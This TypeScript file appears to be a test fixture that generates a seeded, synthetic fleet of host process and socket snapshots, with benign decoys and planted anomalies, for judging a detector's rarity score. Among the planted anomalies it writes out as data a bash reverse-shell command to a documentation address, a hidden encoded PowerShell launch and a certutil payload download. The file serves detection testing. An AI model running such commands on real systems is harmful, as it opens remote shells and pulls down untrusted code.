// A labelled fleet for judging the rarity score: a few hundred mixed Linux
// and Windows hosts doing ordinary things, benign-but-rare decoys (a vendor
// backup agent on three hosts...), and planted anomalies, each of which
// should rank above every decoy. Deterministic (seeded). Documentation and
// private addresses appear only as data; nothing is contacted.

import { rng } from "./fleet-gen.js";

type Json = Record<string, unknown>;

export interface Planted {
  /** What the finding's binary name and protocol will be. */
  binary: string;
  protocol: string;
  what: string;
}

export interface LabelledFleet {
  lines: string[];
  planted: Planted[];
  decoys: Planted[];
  hosts: number;
}

class Host {
  readonly processes: Json[] = [];
  readonly sockets: Json[] = [];
  private nextPid = 2;
  private port = 40000;

  constructor(
    readonly id: string,
    readonly os: "linux" | "windows",
  ) {}

  proc(name: string, exe: string, cmdline: string, ppid = 1, extra: Json = {}): number {
    const pid = this.nextPid++ * 7;
    this.processes.push({ pid, ppid, name, exe, cmdline, user: this.os === "linux" ? "root" : "NT AUTHORITY\\SYSTEM", startedAtMs: String(1764000000000 + pid), ...extra });
    return pid;
  }

  listen(pid: number, port: number, transport = "tcp"): void {
    this.sockets.push({ transport, family: 4, localAddress: "0.0.0.0", localPort: port, state: transport === "tcp" ? "LISTEN" : "UNCONN", pid });
  }

  connect(pid: number, remote: string, port: number, transport = "tcp"): void {
    this.sockets.push({ transport, family: 4, localAddress: "10.1.0.5", localPort: this.port++, remoteAddress: remote, remotePort: port, state: "ESTABLISHED", pid });
  }

  line(n: number): string {
    return JSON.stringify({
      hostId: this.id,
      hostname: this.id,
      os: this.os,
      osVersion: this.os,
      agentVersion: "0.1.0",
      takenAtMs: String(1764300000000 + n * 60000),
      processes: this.processes,
      sockets: this.sockets,
    });
  }
}

function linuxBase(h: Host, r: () => number): Record<string, number> {
  const systemd = h.proc("systemd", "/usr/lib/systemd/systemd", "/sbin/init");
  const sshd = h.proc("sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", systemd);
  h.listen(sshd, 22);
  h.proc("cron", "/usr/sbin/cron", "/usr/sbin/cron -f", systemd);
  h.proc("rsyslogd", "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n", systemd);
  const chrony = h.proc("chronyd", "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", systemd);
  h.connect(chrony, "192.0.2.123", 123, "udp");
  const resolved = h.proc("systemd-resolve", "/usr/lib/systemd/systemd-resolved", "/lib/systemd/systemd-resolved", systemd);
  h.listen(resolved, 53, "udp");
  const shell = h.proc("bash", "/usr/bin/bash", "-bash", sshd, { user: "alice" });
  h.proc("vim", "/usr/bin/vim.basic", "vim /etc/hosts", shell, { user: "alice" });
  const kind = r();
  let nginx = 0;
  if (kind < 0.4) {
    nginx = h.proc("nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx", systemd);
    h.listen(nginx, 80);
    h.listen(nginx, 443);
    h.connect(nginx, "10.1.2.3", 8080);
  } else if (kind < 0.6) {
    const pg = h.proc("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres -D /var/lib/postgresql/15/main", systemd, { user: "postgres" });
    h.listen(pg, 5432);
  } else {
    const app = h.proc("node", "/usr/bin/node", "node /srv/app/server.js", systemd, { user: "app" });
    h.listen(app, 3000);
    h.connect(app, "10.1.3.4", 5432);
    h.connect(app, "198.51.100.20", 443);
  }
  if (r() < 0.7) {
    const upg = h.proc("unattended-upgr", "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade", systemd);
    h.connect(upg, "198.51.100.80", 443);
  }
  return { systemd, sshd, nginx, shell };
}

function windowsBase(h: Host, r: () => number): Record<string, number> {
  const wininit = h.proc("wininit.exe", "C:\\Windows\\System32\\wininit.exe", "wininit.exe", 4);
  const services = h.proc("services.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", wininit);
  const lsass = h.proc("lsass.exe", "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", wininit);
  h.listen(lsass, 49664);
  const svc = h.proc("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k RPCSS -p", services);
  h.listen(svc, 135);
  const svc2 = h.proc("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p", services);
  h.connect(svc2, "203.0.113.53", 53, "udp");
  h.connect(svc2, "203.0.113.10", 443);
  const spool = h.proc("spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", services);
  h.listen(spool, 49668);
  const explorer = h.proc("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", 900);
  const user = { user: "CORP\\bob" };
  const chrome = h.proc("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', explorer, user);
  h.connect(chrome, "198.51.100.1", 443);
  h.connect(chrome, "198.51.100.2", 443, "udp");
  h.proc("notepad.exe", "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\bob\\todo.txt", explorer, user);
  const word = h.proc("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", '"WINWORD.EXE" /n report.docx', explorer, user);
  h.connect(word, "198.51.100.30", 443);
  if (r() < 0.5) {
    const od = h.proc("OneDrive.exe", "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\24.1.0.1\\OneDrive.exe", "OneDrive.exe /background", explorer, user);
    h.connect(od, "198.51.100.40", 443);
  }
  if (r() < 0.6) h.proc("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile", explorer, user);
  return { explorer, word, services };
}

export function labelledFleet(opts: { linux: number; windows: number; seed?: number }): LabelledFleet {
  const r = rng(opts.seed ?? 7);
  const hosts: Array<{ h: Host; pids: Record<string, number> }> = [];
  for (let i = 0; i < opts.linux; i++) {
    const h = new Host(`lnx-${String(i).padStart(4, "0")}`, "linux");
    hosts.push({ h, pids: linuxBase(h, r) });
  }
  for (let i = 0; i < opts.windows; i++) {
    const h = new Host(`win-${String(i).padStart(4, "0")}`, "windows");
    hosts.push({ h, pids: windowsBase(h, r) });
  }
  const linux = hosts.filter((x) => x.h.os === "linux");
  const windows = hosts.filter((x) => x.h.os === "windows");
  const pick = <T>(list: T[], i: number) => list[(i * 37 + 11) % list.length]!;

  // Decoys: benign, rare, and behaving the same wherever they run.
  const decoys: Planted[] = [];
  const decoy = (
    on: typeof linux,
    count: number,
    from: number,
    name: string,
    exe: string,
    cmdline: string,
    parent: string,
    address: string,
    port: number,
    protocol: string,
    what: string,
  ) => {
    for (let i = 0; i < count; i++) {
      const { h, pids } = pick(on, i + from);
      h.connect(h.proc(name, exe, cmdline, pids[parent]), address, port);
    }
    decoys.push({ binary: name, protocol, what });
  };
  decoy(
    linux,
    3,
    1,
    "backupd",
    "/opt/vendor/backup/bin/backupd",
    "/opt/vendor/backup/bin/backupd --daemon",
    "systemd",
    "203.0.113.200",
    443,
    "https",
    "vendor backup agent on 3 hosts",
  );
  decoy(linux, 2, 20, "rsync", "/usr/bin/rsync", "rsync -az /srv/ backup::srv", "systemd", "10.1.9.9", 873, "rsync", "rsync to the backup host on 2 hosts");
  decoy(
    windows,
    3,
    3,
    "AcmeUpdater.exe",
    "C:\\Program Files\\Acme\\AcmeUpdater.exe",
    '"C:\\Program Files\\Acme\\AcmeUpdater.exe" /service',
    "services",
    "203.0.113.201",
    443,
    "https",
    "vendor updater on 3 Windows hosts",
  );
  decoy(
    linux,
    4,
    60,
    "agent",
    "/opt/datadog-agent/bin/agent/agent",
    "/opt/datadog-agent/bin/agent/agent run",
    "systemd",
    "203.0.113.202",
    443,
    "https",
    "monitoring agent on 4 hosts",
  );
  // Not a decoy: python serving a directory on one of the ~140 hosts where
  // python runs is rare behaviour for python, and the report should show it.
  {
    const { h, pids } = pick(linux, 40);
    h.listen(h.proc("python3", "/usr/bin/python3.11", "python3 -m http.server 8000", pids["shell"], { user: "alice" }), 8000);
  }

  // Planted anomalies.
  const planted: Planted[] = [];
  const plant = (os: "linux" | "windows", i: number, what: string, binary: string, protocol: string, make: (h: Host, pids: Record<string, number>) => void) => {
    const { h, pids } = pick(os === "linux" ? linux : windows, i);
    make(h, pids);
    planted.push({ binary, protocol, what });
  };
  plant("linux", 5, "cron talking IRC", "cron", "irc", (h) => {
    const cron = h.processes.find((p) => p["name"] === "cron")!["pid"] as number;
    h.connect(cron, "192.0.2.66", 6667);
  });
  {
    // On a web server: the shell's parent is nginx.
    const web = linux.filter((x) => x.pids["nginx"]);
    const { h, pids } = pick(web.length ? web : linux, 7);
    h.connect(h.proc("bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.44/4444 0>&1", pids["nginx"] || pids["systemd"], { user: "www-data" }), "192.0.2.44", 4444);
    planted.push({ binary: "bash", protocol: "unknown", what: "reverse shell under nginx" });
  }
  plant("linux", 9, "fake kworker run from /tmp", "kworker", "https", (h, pids) => {
    h.connect(h.proc("kworker/0:1", "/tmp/.x/kworker", "[kworker/0:1]", pids["systemd"]), "192.0.2.45", 443);
  });
  plant("linux", 11, "deleted executable beaconing", "dbus-daemon-helper", "https", (h, pids) => {
    h.connect(h.proc("dbus-daemon-hel", "/usr/local/bin/dbus-daemon-helper", "/usr/local/bin/dbus-daemon-helper", pids["systemd"], { exeDeleted: true }), "192.0.2.46", 443);
  });
  plant("windows", 5, "notepad on 443", "notepad.exe", "https", (h) => {
    const np = h.processes.find((p) => p["name"] === "notepad.exe")!["pid"] as number;
    h.connect(np, "192.0.2.47", 443);
  });
  plant("windows", 7, "Word spawning PowerShell that connects out", "powershell.exe", "https", (h, pids) => {
    h.connect(
      h.proc("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA", pids["word"], {
        user: "CORP\\bob",
      }),
      "192.0.2.48",
      443,
    );
  });
  plant("windows", 9, "certutil downloading", "certutil.exe", "http", (h, pids) => {
    h.connect(
      h.proc("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.49/a.exe a.exe", pids["explorer"], { user: "CORP\\bob" }),
      "192.0.2.49",
      80,
    );
  });
  plant("windows", 11, "svchost impostor in Public", "svchost.exe", "https-alt", (h, pids) => {
    h.connect(h.proc("svchost.exe", "C:\\Users\\Public\\svchost.exe", "C:\\Users\\Public\\svchost.exe", pids["explorer"]), "192.0.2.50", 8443);
  });

  return { lines: hosts.map((x) => x.h.line(0)), planted, decoys, hosts: hosts.length };
}
